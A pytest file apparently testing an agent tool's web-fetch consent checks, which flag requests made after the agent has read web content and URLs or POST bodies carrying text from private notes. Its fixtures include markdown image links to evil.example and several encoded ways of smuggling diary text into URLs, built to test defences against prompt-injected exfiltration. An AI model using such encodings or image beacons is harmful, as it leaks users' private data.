"""What an agent does after it has read from the web is asked about where a page could profit from it."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from bridge.contract.consent import Decision
from bridge.testing import sandbox
from bridge.testing.sandbox import Sandbox
from bridge.tools.web.web_fetch import WebFetchTool
from tests.web_servers import LocalWeb, answer, web_services

DIARY = "The password of the garden gate is a line from an old song about rain.\n"
LINKS = "See https://sea.example/a/very/long/path/to/an/article?id=1234567890123456\n"


@pytest.fixture
async def vault(tmp_path: Path) -> AsyncIterator[Sandbox]:
    notes = {"Diary.md": DIARY, "Links.md": LINKS, "Tea.md": "hot\n"}
    async with LocalWeb().serve() as web, sandbox(notes, folder=tmp_path / "Vault") as vault:
        for path in ("/a", "/a/very/long/path/to/an/article", "/b"):
            web.answers[path] = answer("fine", kind="text/plain")
        services = web_services(web, tmp_path, lambda: vault.settings.current, lambda _exchanged: None)
        await vault.add(WebFetchTool(services))
        vault.settings.update({"consentMode": {"web_fetch": "always_allow"}, "allowAllDomains": True})
        yield vault
        services.reader.close()


async def fetch(vault: Sandbox, url: str, **arguments: Any) -> list[str]:
    """Fetch; returns what the person was warned of, or nothing where they were not asked."""
    vault.asked.clear()
    await vault.succeed("web_fetch", url=url, format="raw", **arguments)
    return [warning for asked in vault.asked for warning in asked["preview"]["warnings"]]


async def test_every_new_site_is_asked_about_under_always(vault: Sandbox) -> None:
    assert await fetch(vault, "https://sea.example/a") == []
    (said,) = await fetch(vault, "https://land.example/a")
    assert said.startswith("Robot has read from the web (sea.example), which may have told it to do this: a site")
    assert set(vault.asked[0]["choices"]) == {"allow_once", "deny_once", "deny_session", "deny_always"}
    assert await fetch(vault, "https://land.example/a") == []  # what it has fetched already


async def test_text_that_would_load_something_is_asked_about_though_writing_is_allowed(vault: Sandbox) -> None:
    vault.answer = Decision.ALLOW_SESSION
    await vault.succeed("write_file", path="Tea.md", content="![x](https://evil.example/a.png)\n")
    vault.asked.clear()
    await vault.succeed("write_file", path="Tea.md", content="![x](https://evil.example/b.png)\n")
    assert vault.asked == []
    await fetch(vault, "https://sea.example/a")
    vault.answer = Decision.ALLOW_ONCE
    await vault.succeed("write_file", path="Tea.md", content="cold\n")
    assert vault.asked == []
    await vault.succeed("write_file", path="Tea.md", content="![x](https://evil.example/c.png)\n")
    assert any("Robot has read from the web" in warning for warning in vault.asked[-1]["preview"]["warnings"])


async def test_an_answer_does_not_clear_the_mark_and_the_person_does(vault: Sandbox) -> None:
    await fetch(vault, "https://sea.example/a")
    await fetch(vault, "https://land.example/a")
    assert await fetch(vault, "https://hill.example/a") != []
    vault.web_readers.clear("agent-1")
    assert await fetch(vault, "https://dale.example/a") == []


@pytest.mark.parametrize(
    "url",
    [
        "https://sea.example/a?q=garden+gate+is+a+line+from",
        "https://sea.example/a?q=GARDEN%20gate%20is%20a%20line%20from",
        "https://sea.example/a?x=1&q=%67arden%20gate%20is%20a%20line%20from&y=2",
        "https://sea.example/The%20password%20of%20the%20garden/../a?z=password of the garden gate",
        "https://sea.example/a?q=Z2FyZGVuIGdhdGUgaXMgYSBsaW5lIGZyb20gYW4gb2xk",
        "https://sea.example/a?q=%EF%BD%87%EF%BD%81rden gate is a line from",
        "https://sea.example/a?a=garden gate is&b=a line from an&c=old song",
        "https://garden-gate.is-a-line-from-an.example/a",
        "https://sea.example/b?/garden/gate/is/a/line/from/a",
    ],
)
async def test_a_url_that_carries_text_of_the_vault_is_always_asked_about(vault: Sandbox, url: str) -> None:
    (said,) = await fetch(vault, url)
    assert said == "It carries text that also stands in Diary.md"


async def test_a_look_at_a_call_tells_nothing_of_the_vault(vault: Sandbox) -> None:
    """Else an agent could ask for the next letter of a note, and the next, without anybody being asked."""
    guess = "https://sea.example/a?q=garden+gate+is+a+line+from"
    plan = (await vault.preview("web_fetch", url=guess)).to_wire()
    assert "carries" not in json.dumps(plan)


@pytest.mark.parametrize(
    "url",
    [
        "https://sea.example/a?q=garden+gate+is+a+line+f",  # 19 letters
        "https://sea.example/a?q=something+that+is+in+no+note+at+all",
        "https://sea.example/a/very/long/path/to/an/article?id=1234567890123456",  # a link that stands in a note
        "https://sea.example/a/very/long/path/to/an/article",
    ],
)
async def test_what_carries_nothing_is_not(vault: Sandbox, url: str) -> None:
    assert await fetch(vault, url) == []


async def test_a_body_is_compared_too(vault: Sandbox) -> None:
    said = await fetch(vault, "https://sea.example/a", method="POST", postData=DIARY)
    assert said == ["It carries text that also stands in Diary.md"]
